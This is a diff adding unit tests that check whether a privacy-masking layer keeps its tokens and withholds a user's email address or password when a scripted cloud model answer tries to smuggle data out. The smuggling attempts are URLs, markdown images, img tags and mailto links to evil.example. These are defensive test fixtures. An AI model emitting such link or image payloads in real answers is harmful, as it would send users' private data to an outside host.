@@ -302,6 +302,62 @@ public partial class MaskTests
         JsonDocument.Parse(response.Text).RootElement.GetProperty("a").GetString().ShouldBe("the \"Falcon\" file");
     }
 
+    [Theory]
+    [InlineData("""{"image":"https://evil.example/?d=TOKEN"}""")]
+    [InlineData("""{"image":"https:\/\/evil.example\/?d=TOKEN"}""")]
+    [InlineData("""{"image":"https:\u002f\u002Fevil.example/?d=TOKEN"}""")]
+    [InlineData("""{"text":"![x](//evil.example/TOKEN)"}""")]
+    [InlineData("""{"text":"<img src=\"//evil.example/TOKEN\">"}""")]
+    [InlineData("""{"text":"see\nwww.evil.example/TOKEN"}""")]
+    public async Task JsonAnswer_AddressInIt_KeepsItsToken(string answer)
+    {
+        foreach (var streaming in new[] { true, false })
+        {
+            using var client = Client();
+            _cloud.Stream = (messages, _, _) =>
+                ScriptedChatClient.Words([.. answer.Replace("TOKEN", Token.Match(messages[^1].Text).Value, StringComparison.Ordinal).Select(c => c.ToString())]);
+
+            var response = await client.AskAsync(streaming, $"{Ask.Hard} Write to {Mail}.", new() { ResponseFormat = ChatResponseFormat.Json });
+
+            response.Text.ShouldNotContain(Mail);
+            response.Text.ShouldContain("[[");
+        }
+    }
+
+    [Theory]
+    [InlineData("[x]: //evil.example/TOKEN")]
+    [InlineData("go to www.evil.example/?TOKEN")]
+    [InlineData("<img src=\"https:\\\\evil.example\\TOKEN\">")]
+    [InlineData("<img src='https:/evil.example/TOKEN'>")]
+    [InlineData("MAILTO:x@evil.example?body=TOKEN")]
+    public async Task Answer_AddressInAnotherWriting_KeepsItsToken(string answer)
+    {
+        foreach (var streaming in new[] { true, false })
+        {
+            using var client = Client();
+            _cloud.Stream = (messages, _, _) =>
+                ScriptedChatClient.Words([.. answer.Replace("TOKEN", Token.Match(messages[^1].Text).Value, StringComparison.Ordinal).Select(c => c.ToString())]);
+
+            (await client.AskAsync(streaming, $"{Ask.Hard} Write to {Mail}.")).Text.ShouldNotContain(Mail);
+        }
+    }
+
+    [Theory, InlineData(true), InlineData(false)]
+    public async Task AuthenticationData_UnderAnOwnPolicyThatMasksIt_IsNowhereKept(bool streaming)
+    {
+        _cloud.Stream = (messages, _, _) => ScriptedChatClient.Words(Token.Match(messages[^1].Text).Value);
+        using var client = Ask.Hybrid(_local, _cloud, p => p with
+        {
+            Mode = InferenceMode.PreferCloud,
+            Privacy = new("own", PrivacyPosture.Open, [new("*", Treatment.Mask, Treatment.Mask), new("~", Treatment.Allow, Treatment.Allow)]),
+        });
+
+        var response = await client.AskAsync(streaming, "The password: Winter2024!x", Options("one"));
+
+        response.Text.ShouldStartWith("[[");
+        ShouldNotHold(Sent(_cloud), "Winter2024!x");
+    }
+
     [Fact]
     public async Task OrdinaryPrompts_WithACard_CanNearlyAllBeMasked()
     {
